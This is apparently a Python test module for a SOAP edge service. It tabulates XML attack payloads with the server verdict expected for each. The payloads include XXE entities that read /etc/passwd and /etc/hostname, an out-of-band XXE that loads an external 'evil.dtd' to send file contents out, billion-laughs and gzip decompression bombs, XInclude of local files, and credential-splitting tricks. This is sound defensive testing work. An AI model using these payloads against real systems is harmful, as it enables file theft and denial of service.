"""Attacks on the XML, and on the way to it."""

from __future__ import annotations

import gzip
import itertools
import zlib
from collections.abc import Callable, Iterator
from types import MappingProxyType

from edge.namespaces import SOAP11
from tests.edge.attacks.attack import (
    Make,
    Sent,
    Table,
    Verdict,
    attacks,
    bytes_changed,
    changed,
    request,
    with_inner,
    with_prolog,
    with_text,
)
from tests.edge.client import Stream, envelope, security

MEBI = 1024 * 1024
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
COLLIDING = ["".join(pairs) for pairs in itertools.product(("Aa", "BB"), repeat=14)]
XINCLUDE = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{}" parse="text"/>'
SCHEMA_LOCATION = (
    ' xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:schemaLocation="urn:x TRAP/x.xsd" '
    'i:noNamespaceSchemaLocation="file:///etc/passwd"'
)
OUT_OF_BAND = '<!DOCTYPE x [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % d SYSTEM "TRAP/evil.dtd">%d;%send;]>'


def encoded(name: str, codec: str, declared: str | None = None) -> Make:
    declaration = f'<?xml version="1.0" encoding="{declared or name}"?>'
    return lambda target: Sent(request(target, prolog=declaration).decode().encode(codec), "text/xml")


def mislabelled(charset: str) -> Make:
    return lambda target: Sent(request(target), f"text/xml; charset={charset}")


def packed(encoding: str, pack: Callable[[bytes], bytes]) -> Make:
    bomb = pack(b" " * (40 * MEBI))
    return lambda _: Sent(bomb, headers={"Content-Encoding": encoding})


class Endless(Stream):
    """A document that begins well and never ends."""

    waits = False

    def __init__(self, start: bytes, more: bytes) -> None:
        super().__init__(start)
        self._more = more

    def read(self, size: int = -1) -> bytes:
        return super().read(size) or self._more


def endless(more: str, header: str | None = None) -> Make:
    start = envelope("", header).partition("</soap:Body>")[0]
    return lambda _: Sent(lambda: Endless(start.encode(), more.encode() * (256 * 1024 // len(more))))


def raw(data: bytes) -> Make:
    return lambda _: Sent(data)


def flood(pieces: Iterator[str]) -> str:
    return " " + " ".join(pieces)


LIMIT_OF_ATTRIBUTES = flood(f'a{n}="1"' for n in range(31))
NAMESPACES = flood(f'xmlns:n{n}="urn:{n}"' for n in range(20_000))

REFUSED = attacks(
    Verdict.FAULT,
    {
        "doctype bare": with_prolog("<!DOCTYPE x>"),
        "xxe file": with_prolog('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', "&e;"),
        "xxe http": with_prolog('<!DOCTYPE x [<!ENTITY e SYSTEM "TRAP/e">]>', "&e;"),
        "xxe parameter entity": with_prolog('<!DOCTYPE x [<!ENTITY % p SYSTEM "file:///etc/hostname"> %p;]>'),
        "xxe out-of-band": with_prolog(OUT_OF_BAND),
        "external dtd": with_prolog('<!DOCTYPE x SYSTEM "TRAP/x.dtd">'),
        "public dtd": with_prolog('<!DOCTYPE x PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "TRAP/x.dtd">'),
        "billion laughs": with_prolog(f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>', "&l9;"),
        "quadratic blow-up": with_prolog(f'<!DOCTYPE x [<!ENTITY e "{"a" * 50_000}">]>', "&e;" * 5_000),
        "recursive entity": with_prolog('<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;"),
        "default attributes of a dtd": with_prolog('<!DOCTYPE x [<!ATTLIST x a CDATA "1">]>'),
        "undeclared entity": with_text("&nbsp;"),
        "coercive parsing": with_inner("<a>" * 100_000 + "</a>" * 100_000),
        "comments without end": with_inner("<!--" * 900 + "= -" * MEBI),
        "cdata sections without end": with_inner("<![CDATA[" * 900 + "=]]" * MEBI),
        "pis without end": with_inner("<?x " * 900 + "=?" * 2 * MEBI),
        "attributes without end": with_inner("<a b='" * 900 + "= " * 2 * MEBI),
        "tags without end": with_inner("<a" * 900 + " b='1'" * MEBI),
        "coercive parsing without end": with_inner("<a>" * 100_000),
        "nesting just too deep": with_inner("<a>" * 62 + "</a>" * 62),
        "attribute flood": with_inner("", flood(f'a{n}="1"' for n in range(100_000))),
        "one attribute too many": with_inner("", flood(f'a{n}="1"' for n in range(33))),
        "attribute hash collision": with_inner("", flood(f'{name}="1"' for name in COLLIDING)),
        "attribute flood over elements": with_inner(f"<a{LIMIT_OF_ATTRIBUTES}/>" * 15_000),
        "duplicate attribute": with_inner("", ' a="1" a="2"'),
        "namespace flood": with_inner("", NAMESPACES),
        "namespace flood over elements": with_inner("".join(f'<n{n}:a xmlns:n{n}="urn:{n}"/>' for n in range(20_000))),
        "namespace flood in utf-16": lambda target: Sent(
            request(target, prolog='<?xml version="1.0" encoding="utf-16"?>', attributes=NAMESPACES)
            .decode()
            .encode("utf-16"),
            "text/xml",
        ),
        "element flood": with_inner("<a/>" * 300_000),
        "element flood whose names look like marks": lambda target: Sent(
            request(target, inner="<\u3f00/>" * 30_000, prolog='<?xml version="1.0" encoding="utf-16"?>')
            .decode()
            .encode("utf-16-be"),
            "text/xml; charset=utf-16be",
        ),
        "oversized text": with_text("A" * (12 * MEBI)),
        "oversized attribute": with_inner(f'<a b="{"A" * (12 * MEBI)}"/>'),
        "endless body": endless("A"),
        "endless body of a stranger": endless("A", ""),
        "endless comment": endless("<!-- "),
        "endless nesting": endless("<a>"),
        "utf-7": encoded("utf-7", "utf-7"),
        "utf-7 by charset": mislabelled("utf-7"),
        "utf-16 by charset alone": mislabelled("utf-16"),
        "utf-32": encoded("utf-32", "utf-32"),
        "utf-32 declared": encoded("utf-32", "ascii"),
        "ebcdic declaration": encoded("ibm037", "cp037"),
        "ebcdic declared": encoded("ibm037", "ascii"),
        "unknown encoding": encoded("klingon", "ascii"),
        "nul": bytes_changed(b"honest", b"hon\x00est"),
        "nul by reference": with_text("&#0;"),
        "control character": bytes_changed(b"honest", b"hon\x08est"),
        "control character by reference": with_text("&#1;"),
        "surrogate by reference": with_text("&#xD800;"),
        "noncharacter by reference": with_text("&#xFFFF;"),
        "reference beyond unicode": with_text("&#x110000;"),
        "overlong utf-8": bytes_changed(b"honest", b"\xc0\xbcx/>"),
        "overlong nul": bytes_changed(b"honest", b"\xc0\x80"),
        "surrogate in utf-8": bytes_changed(b"honest", b"\xed\xa0\x80"),
        "bom in middle of a tag": bytes_changed(b"<soap:Body>", b"<\xef\xbb\xbfsoap:Body>"),
        "xml 1.1 control character": with_prolog('<?xml version="1.1"?>', "&#1;"),
        "xml 3.0 by words": with_prolog('<?xml version="three"?>'),
        "standalone lies of a dtd": with_prolog('<?xml version="1.0" standalone="yes"?><!DOCTYPE x SYSTEM "TRAP/d">'),
        "standalone neither yes nor no": with_prolog('<?xml version="1.0" standalone="maybe"?>'),
        "declaration twice": with_prolog('<?xml version="1.0"?><?xml version="1.0"?>'),
        "unbound prefix": with_inner("<nobody:a/>"),
        "less-than in an attribute": with_inner('<a b="<"/>'),
        "end of cdata in text": with_text("]]>"),
        "comment with two hyphens": with_inner("<!-- -- -->"),
        "cdata before the root": with_prolog("<![CDATA[]]>"),
        "cut off": lambda target: Sent(request(target)[:-10]),
        "two roots": lambda target: Sent(request(target) * 2),
        "text after the root": lambda target: Sent(request(target) + b"x"),
        "not xml": raw(b"hello"),
        "json": raw(b'{"a": 1}'),
        "empty": raw(b""),
        "white space alone": raw(b" \n"),
    },
)
IGNORED = attacks(
    Verdict.ANSWER,
    {
        "xinclude file": with_inner(XINCLUDE.format("file:///etc/passwd")),
        "xinclude http": with_inner(XINCLUDE.format("TRAP/x")),
        "external schemaLocation": with_inner("", SCHEMA_LOCATION),
        "xml-stylesheet": with_prolog('<?xml-stylesheet type="text/xsl" href="TRAP/x.xsl"?>'),
        "xml:base": with_inner("", ' xml:base="TRAP/"'),
        "standalone without a dtd": with_prolog('<?xml version="1.0" standalone="yes"?>'),
        "empty cdata": with_text("hon<![CDATA[]]>est"),
        "comment splitting of a value": with_text("hon<!-- x -->est"),
        "pi splitting of a value": with_text("hon<?x y?>est"),
    },
)
EITHER = attacks(
    Verdict.HARMLESS,
    {
        "element flood just below the limit": with_inner("<a/>" * 19_900),
        "namespaces just below the limit": with_inner("", flood(f'xmlns:n{n}="urn:{n}"' for n in range(900))),
        "namespaces by the element": with_inner("".join(f'<a xmlns="urn:{n}"/>' for n in range(990))),
        "attributes just below the limit": with_inner(f"<a{LIMIT_OF_ATTRIBUTES}/>" * 600),
        "cdata flood": with_text("<![CDATA[]]>" * 500_000),
        "comment flood": with_inner("<!---->" * 500_000),
        "pi flood": with_inner("<?a?>" * 500_000),
        "comment before the root": lambda _: Sent(b"<!--" + b"-x" * (MEBI // 2) + b"-->" + envelope("").encode()),
        "character reference flood": with_text("&#65;" * 200_000),
        "text in a million pieces": with_text("&amp;" * 200_000),
        "utf-16 without bom": encoded("utf-16", "utf-16-le"),
        "utf-16 that is ascii": encoded("utf-16", "ascii"),
        "xml 1.1": with_prolog('<?xml version="1.1"?>'),
        "bom in middle of a value": bytes_changed(b"honest", b"hon\xef\xbb\xbfest"),
        "long element name": with_inner(f"<{'a' * 40_000}/>"),
        "long namespace": with_inner(f'<a xmlns="urn:{"a" * 40_000}"/>'),
        "prefixes of one namespace": changed("<soap:Body>", f'<b:Body xmlns:b="{SOAP11}">'.replace("b:", "soap:")),
    },
)
PACKED = attacks(
    Verdict.UNSUPPORTED,
    {
        "gzip content-encoding bomb": packed("gzip", lambda data: gzip.compress(data, 1)),
        "deflate content-encoding bomb": packed("deflate", lambda data: zlib.compress(data, 1)),
        "gzip in gzip": packed("gzip, gzip", lambda data: gzip.compress(gzip.compress(data, 1), 1)),
        "unknown content-encoding": packed("br", lambda _: b"x"),
        "gzip that is none": packed("gzip", lambda _: b"x"),
    },
)
SPLIT_NAMES = attacks(
    Verdict.SECURITY,
    {
        "comment splitting of a user name": lambda target: Sent(request(target, header=security("ana<!-- -->.evil"))),
        "pi splitting of a password": lambda target: Sent(request(target, header=security("ana", "right<?x?>"))),
        "cdata splitting of a user name": lambda target: Sent(request(target, header=security("ana<![CDATA[x]]>"))),
    },
)
XML_ATTACKS: Table = MappingProxyType({**REFUSED, **IGNORED, **EITHER, **PACKED, **SPLIT_NAMES})
